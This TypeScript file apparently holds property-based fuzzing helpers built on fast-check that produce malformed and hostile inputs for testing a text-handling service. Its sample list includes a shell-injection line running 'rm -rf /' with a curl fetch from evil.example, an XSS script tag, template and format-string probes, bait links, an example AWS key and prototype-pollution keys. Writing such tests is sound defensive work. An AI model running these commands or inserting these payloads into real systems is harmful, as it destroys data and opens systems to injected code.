/** What bad or unlucky people send: random values, and real ones that something has gone wrong with. */
import fc from 'fast-check';

/** Planted in texts; must never come out as a link, a mention or a tag. */
export const BAIT =
  '[click](https://evil.example/x) <at>Everybody</at> <img src="https://evil.example/y"> ![i](https://evil.example/z)';

const PIECES = [
  'etcd lost quorum',
  'Kubernetes v1.29.4 on Azure Local 24H2',
  'stopped since 2026-09-01',
  "don't know",
  'rpc error: code = DeadlineExceeded desc = context deadline exceeded',
  'NAME STATUS ROLES AGE VERSION\nmoc-l1 NotReady control-plane 12d v1.28.5',
  '{"kubernetesVersion":"1.30.9","provisioningState":"Failed"}',
  '\nexport AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n',
  BAIT,
  '`rm -rf /`; $(curl evil.example) && "\'',
  '<script>alert(1)</script>',
  '{{DATE(2026-11-20)}} {{7*7}} %s %n',
  '| a | b |\n|---|---|\n| ![x](y) | **',
  '\u0000\u0001\u001b[31m\u202e\u2066\ufeff\ud800',
  'İıẞß\u0301\u0301\u0301\u200b\u200d👩‍👩‍👧‍👦',
  '2026-13-45 99/99/9999 -1 1e309 NaN',
  '((((((((((((((((((((a',
  'a, '.repeat(200),
  '1.'.repeat(300),
  ' '.repeat(500),
  '=>'.repeat(100),
  'x'.repeat(1500),
];

export const strangeText = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...PIECES) },
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.string({ maxLength: 60 }),
    ),
    { maxLength: 10 },
  )
  .chain((parts) => fc.constantFrom(' ', '\n', '', '\r\n', '&nbsp;').map((between) => parts.join(between)));

export const strangeValue = fc.oneof(
  strangeText,
  fc.jsonValue({ maxDepth: 4 }),
  fc.constantFrom(null, true, -1, 1e21, '', [], {}, '__proto__', 'constructor'),
);

/** A real value with some of its parts replaced, taken away or doubled. */
export function mutated<T extends object>(original: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
  const change = fc.record({
    at: fc.nat(),
    how: fc.constantFrom('replace', 'remove', 'nest', 'list'),
    by: strangeValue,
  });
  return fc.tuple(original, fc.array(change, { maxLength: 4 })).map(([value, changes]) => {
    const copy = structuredClone(value) as Record<string, unknown>;
    for (const { at, how, by } of changes) {
      const places = placesOf(copy);
      const place = places[at % Math.max(1, places.length)];
      if (!place) continue;
      const [holder, name] = place;
      if (how === 'remove') delete holder[name];
      else holder[name] = how === 'replace' ? by : how === 'nest' ? { [name]: holder[name] } : [holder[name], by];
    }
    return copy;
  });
}

function placesOf(value: object): [Record<string, unknown>, string][] {
  const holder = value as Record<string, unknown>;
  return Object.keys(holder).flatMap((name) => {
    const part = holder[name];
    const deeper = typeof part === 'object' && part !== null ? placesOf(part) : [];
    return [[holder, name] as [Record<string, unknown>, string], ...deeper];
  });
}
